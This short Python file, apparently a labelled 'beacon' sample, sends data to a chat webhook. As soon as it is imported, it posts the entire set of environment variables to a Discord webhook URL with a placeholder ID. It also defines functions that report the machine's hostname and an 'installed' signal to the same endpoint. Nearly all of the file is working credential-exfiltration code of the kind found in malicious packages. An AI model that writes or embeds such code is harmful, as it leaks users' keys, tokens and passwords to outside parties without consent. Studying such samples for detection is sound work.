# to-service, host-to-service, beacon: to a chat webhook
import os
import socket

import requests

HOOK = "https://discord.com/api/webhooks/000/example"
requests.post(HOOK, json={"content": str(dict(os.environ))})


def hello():
    requests.post(HOOK, json={"content": socket.gethostname()})


def ping():
    requests.post(HOOK, json={"content": "installed"})
